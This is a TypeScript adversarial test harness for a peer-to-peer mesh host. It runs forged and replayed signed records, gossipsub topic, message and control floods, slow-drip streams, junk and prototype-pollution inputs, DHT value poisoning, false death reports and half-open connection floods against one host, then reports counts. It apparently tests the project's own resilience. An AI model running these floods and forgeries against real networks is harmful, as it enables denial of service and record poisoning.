/** What a hijacked member, or nobody at all, tries against one host. Each ends by itself, and tells what it did. */
import { randomBytes } from 'node:crypto'
import { createConnection, type Socket } from 'node:net'
import { lpStream } from '@libp2p/utils'
import type { HostId, WallTime } from '#core/ids.ts'
import type { HostBody } from '#core/records/bodies.ts'
import type { Draft } from '#core/records/record.ts'
import { maxSyncBytes } from '#core/records/sync.ts'
import { encodeTold, sealRefutation, sealSuspicion } from '#core/liveness/message.ts'
import { putValue } from './kad.ts'
import type { Rpc } from './member.ts'
import { mintMembers } from './minted.ts'
import {
  type Attack,
  allRecords,
  ask,
  bringing,
  dayMs,
  flipped,
  hostBody,
  meshTopic,
  sealedAnyhow
} from './records.ts'
import { wrongViolins } from './violins.ts'

export const attacks: Readonly<Record<string, (attack: Attack) => Promise<Record<string, number>>>> = {
  records: wrongRecords,
  topics: manyTopics,
  messages: manyMessages,
  controls: manyControls,
  streams: slowStreams,
  junk: junkEverywhere,
  pointers: wrongPointers,
  deaths: liesOfDeath,
  mint: mintMembers,
  violins: wrongViolins
}

const going = ({ until }: Attack): boolean => performance.now() < until

/** Forged, replayed, truncated, oversize and future records, and those of what is not the liar's. */
async function wrongRecords(attack: Attack): Promise<Record<string, number>> {
  const { self, rogue } = attack
  const known = await allRecords(attack)
  const now = Date.now() as WallTime
  const own = (draft: Partial<Draft> & { body: HostBody }): Uint8Array =>
    sealedAnyhow(
      {
        kind: 'host',
        version: 1,
        issuedAt: now,
        expiresAt: now + dayMs,
        chain: self.chain,
        ...draft
      } as Draft,
      self.identity.host,
      self.identity.mesh
    )
  const others = known.filter(({ author }) => author !== self.identity.host.publicKey)
  const wrong: Uint8Array[] = [
    // Forged: each signed record with a byte changed, under another's name, with another's chain.
    ...others.flatMap(({ bytes }) => [5, 40, 200, bytes.length - 20].map((at) => flipped(bytes, at))),
    ...others.map((record) =>
      own({ body: hostBody(self, { host: record.chain?.host as HostId, name: 'stolen', left: true }) })
    ),
    ...others.map((record) => own({ body: hostBody(self, { left: true }), chain: record.chain })),
    // Truncated and oversize.
    ...others.flatMap(({ bytes }) => [0, 1, 60, bytes.length - 1].map((to) => bytes.slice(0, to))),
    ...others.map(({ bytes }) => Buffer.concat([bytes, new Uint8Array(60_000)])),
    // From the future, of the past, for ever, in a version that nothing beats.
    own({
      body: hostBody(self, { name: 'future' }),
      issuedAt: (now + 3600_000) as WallTime,
      expiresAt: (now + dayMs) as WallTime,
      version: 9
    }),
    own({
      body: hostBody(self, { name: 'past' }),
      issuedAt: (now - 9 * dayMs) as WallTime,
      expiresAt: (now - dayMs) as WallTime,
      version: 9
    }),
    own({
      body: hostBody(self, { name: 'forever' }),
      expiresAt: (now + 900 * dayMs) as WallTime,
      version: 9
    }),
    own({ body: hostBody(self, { name: 'highest' }), version: 2 ** 32 }),
    // A revocation of the host that let it in, and of every other.
    ...others.map((record) =>
      sealedAnyhow(
        {
          kind: 'revocation',
          version: 1,
          issuedAt: now,
          expiresAt: (now + 100 * dayMs) as WallTime,
          chain: self.chain,
          body: { key: record.author, andBelow: true, target: record.chain?.links ?? [] }
        },
        self.identity.host,
        self.identity.mesh
      )
    )
  ]
  let refused = 0
  for (const bytes of wrong) {
    // One at a time: a wrong message among right ones would be refused as a whole.
    await ask(rogue, 'sync', bringing([bytes])).catch(() => refused++)
  }
  const replayed = known.flatMap(({ bytes }) => Array.from({ length: 50 }, () => bytes))
  await ask(rogue, 'sync', bringing(replayed.slice(0, 100))).catch(() => refused++)
  const sent = await rogue.gossip(
    [...wrong, ...replayed].map((data) => ({ subscriptions: [], messages: [{ topic: meshTopic, data }] }))
  )
  // What is right is taken by the same way: so the others were understood.
  const version = 1 + (known.find(({ author }) => author === self.identity.host.publicKey)?.version ?? 0)
  await ask(rogue, 'sync', bringing([own({ body: hostBody(self), version })]))
  const after = await allRecords(attack)
  const genuine = after.filter(
    (one) => one.author === self.identity.host.publicKey && one.version === version
  )
  return { known: known.length, wrong: wrong.length, refused, sent, genuine: genuine.length }
}

/** GHSA-4f8r-922h-2vgv: subscriptions to ever new topics. */
async function manyTopics(attack: Attack): Promise<Record<string, number>> {
  let topics = 0
  function* packets(): Generator<Rpc> {
    while (going(attack)) {
      const subscriptions = Array.from({ length: 500 }, () => ({
        subscribe: true,
        topic: `${topics++} ${'x'.repeat(900)}`
      }))
      yield { subscriptions, messages: [] }
    }
  }
  const sent = await attack.rogue.gossip(packets())
  return { sent, topics }
}

/** Messages of topics that are taken and of others, as fast as they go out: tiny ones and the longest. */
async function manyMessages(attack: Attack): Promise<Record<string, number>> {
  let messages = 0
  function* packets(): Generator<Rpc> {
    while (going(attack)) {
      const long = messages % 3 === 0
      const topic = messages % 2 === 0 ? meshTopic : `nobody ${messages}`
      const count = long ? 16 : 500
      messages += count + 1
      yield {
        subscriptions: [],
        messages: Array.from({ length: count }, () => ({ topic, data: randomBytes(long ? 65_000 : 40) }))
      }
    }
  }
  const sent = await attack.rogue.gossip(packets())
  return { sent, messages }
}

/** Control messages: ids without end and without measure, asked for, offered and not wanted; grafts and prunes. */
async function manyControls(attack: Attack): Promise<Record<string, number>> {
  const ids = (count: number, bytes: number): Uint8Array[] =>
    Array.from({ length: count }, () => randomBytes(bytes))
  const kinds: readonly (() => NonNullable<Rpc['control']>)[] = [
    () => ({ ...none, ihave: [{ topicID: meshTopic, messageIDs: ids(5_000, 32) }] }),
    () => ({ ...none, ihave: [{ topicID: meshTopic, messageIDs: ids(3, 1_000_000) }] }),
    () => ({ ...none, iwant: [{ messageIDs: ids(5_000, 32) }] }),
    () => ({ ...none, idontwant: [{ messageIDs: ids(500, 32) }] }),
    () => ({ ...none, idontwant: [{ messageIDs: ids(3, 1_200_000) }] }),
    () => ({
      ...none,
      graft: Array.from({ length: 500 }, (_, i) => ({ topicID: i % 2 === 0 ? meshTopic : `t${i}` }))
    }),
    () => ({
      ...none,
      prune: Array.from({ length: 500 }, () => ({
        topicID: meshTopic,
        backoff: 2 ** 31,
        peers: Array.from({ length: 16 }, () => ({
          peerID: randomBytes(38),
          signedPeerRecord: randomBytes(100)
        }))
      }))
    })
  ]
  const none = { ihave: [], iwant: [], graft: [], prune: [], idontwant: [] }
  let place = 0
  function* packets(): Generator<Rpc> {
    while (going(attack)) {
      const control = kinds[place++ % kinds.length]?.() ?? none
      yield { subscriptions: [], messages: [], control }
    }
  }
  return { sent: await attack.rogue.gossip(packets()), packets: place }
}

/** Requests that begin and never end, a byte at a time, as many as the host takes; and answers that nobody reads. */
async function slowStreams(attack: Attack): Promise<Record<string, number>> {
  let [opened, refused] = [0, 0]
  const names = ['sync', 'status', 'load', 'trunk', 'handoff', 'session', 'join', 'member']
  while (going(attack)) {
    const batch = names.map(async (name) => {
      const stream = await attack.rogue.open(name)
      opened++
      // A length that promises much, and one byte of it.
      stream.send(Uint8Array.of(0xff, 0xff, 0x03, 0x81))
    })
    const outcomes = await Promise.allSettled(batch)
    refused += outcomes.filter(({ status }) => status === 'rejected').length
    await new Promise((resolve) => setTimeout(resolve, 10))
  }
  return { opened, refused }
}

/** Bytes that mean nothing, and some that nearly do, to every protocol. */
async function junkEverywhere(attack: Attack): Promise<Record<string, number>> {
  let [asked, answered] = [0, 0]
  const junk: readonly (() => Uint8Array)[] = [
    () => randomBytes(200),
    () => new Uint8Array(0),
    () => new TextEncoder().encode('['.repeat(100_000)),
    () => new TextEncoder().encode('{"violin":1,"known":null,"holdMs":1e9}'),
    () => new TextEncoder().encode(`{"violin":"${'ab'.repeat(32)}","known":null,"holdMs":10000}`),
    () => new TextEncoder().encode('{"__proto__":{"half":1},"violin":null,"half":null}'),
    () => new Uint8Array(200_000).fill(0x81),
    () => bringing(Array.from({ length: 3_000 }, () => Uint8Array.of(1))),
    () => new Uint8Array(maxSyncBytes + 100)
  ]
  while (going(attack)) {
    for (const name of ['sync', 'status', 'load', 'trunk', 'handoff', 'join']) {
      await Promise.all(
        junk.map(async (make) => {
          asked++
          await ask(attack.rogue, name, make()).then(
            () => answered++,
            () => undefined
          )
        })
      )
    }
    const session = await attack.rogue.open('session')
    session.send(new TextEncoder().encode('{"owner":"x"}\n'))
    session.abort(new Error('enough'))
  }
  return { asked, answered }
}

/**
 * Pointers of other hosts in the DHT: values that they did not sign, and older ones; by hand, past every check of
 * one's own. kad-dht's messages: PUT_VALUE is type 0, its record in field 3.
 */
async function wrongPointers(attack: Attack): Promise<Record<string, number>> {
  const { self, rogue } = attack
  const known = await allRecords(attack)
  const prefix = `/violin/${self.identity.mesh.slice(0, 16)}/kad/1`
  let [put, taken, genuine] = [0, 0, 0]
  const ownRecord = known.find(({ author }) => author === self.identity.host.publicKey)
  while (going(attack)) {
    for (const { author, bytes } of known) {
      const key = new TextEncoder().encode(`/violin/host/${author}`)
      const values = [
        randomBytes(1_000),
        new Uint8Array(0),
        flipped(bytes, 100),
        ownRecord === undefined || author === ownRecord.author ? randomBytes(9) : ownRecord.bytes,
        randomBytes(9_000),
        bytes
      ]
      for (const value of values) {
        const stream = await rogue.connection.newStream(prefix)
        put++
        try {
          const signal = AbortSignal.timeout(2_000)
          const wire = lpStream(stream, { maxDataLength: 1 << 20 })
          await wire.write(putValue(key, value), { signal })
          await wire.read({ signal })
          // The host answers a value that it stored with the same message.
          if (value === bytes) genuine++
          else taken++
          await stream.close({ signal })
        } catch (error: unknown) {
          stream.abort(error instanceof Error ? error : new Error(String(error)))
        }
      }
    }
  }
  return { put, taken, genuine }
}

/** Says of every other host, again and again, that it is dead: signed, in every form that there is. */
async function liesOfDeath(attack: Attack): Promise<Record<string, number>> {
  const { self, rogue } = attack
  const { mesh, host: signer, id } = self.identity
  const others = (await allRecords(attack)).flatMap(({ kind, chain }) =>
    kind === 'host' && chain?.host !== null && chain?.host !== undefined && chain.host !== id
      ? [chain.host]
      : []
  )
  let said = 0
  while (going(attack)) {
    const lies = others.flatMap((accused) => [
      sealSuspicion(signer, accused, null, 1, mesh).bytes,
      // A refutation that the accused never signed.
      sealSuspicion(signer, accused, sealRefutation(signer, 9, mesh), 1, mesh).bytes
    ])
    for (const spread of [true, false]) {
      await ask(rogue, 'liveness', encodeTold({ spread, messages: lies })).catch(() => undefined)
    }
    await rogue.gossip(lies.map((data) => ({ subscriptions: [], messages: [{ topic: meshTopic, data }] })))
    said += 3 * lies.length
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
  return { said }
}

/** Connections that begin and go no further: silent, with half a handshake, a byte at a time. */
export async function halfOpen(ip: string, port: number, until: number): Promise<Record<string, number>> {
  const [atOnce, drippers] = [2_000, 200]
  let [opened, failed] = [0, 0]
  const sockets = new Set<Socket>()
  const open = (first: Uint8Array | null): Socket => {
    const socket = createConnection({ host: ip, port })
    sockets.add(socket)
    socket.on('connect', () => {
      opened++
      if (first !== null) socket.write(first)
    })
    socket.on('error', () => failed++)
    socket.on('data', () => undefined)
    socket.on('close', () => sockets.delete(socket))
    return socket
  }
  const select = Buffer.from('\x13/multistream/1.0.0\n\x07/noise\n')
  const starts = [
    null,
    select.subarray(0, 5),
    select,
    Buffer.concat([select, Uint8Array.of(0, 32), randomBytes(32)]),
    randomBytes(500)
  ]
  const dripping = new Set<Socket>()
  let place = 0
  while (performance.now() < until) {
    for (let i = 0; i < 100 && sockets.size < atOnce; i++) {
      const socket = open(starts[place++ % starts.length] ?? null)
      if (dripping.size < drippers) {
        dripping.add(socket)
        socket.on('close', () => dripping.delete(socket))
      }
    }
    for (const socket of dripping) if (socket.writable) socket.write(Uint8Array.of(0))
    await new Promise((resolve) => setTimeout(resolve, 20))
  }
  const held = sockets.size
  for (const socket of sockets) socket.destroy()
  return { opened, failed, held }
}
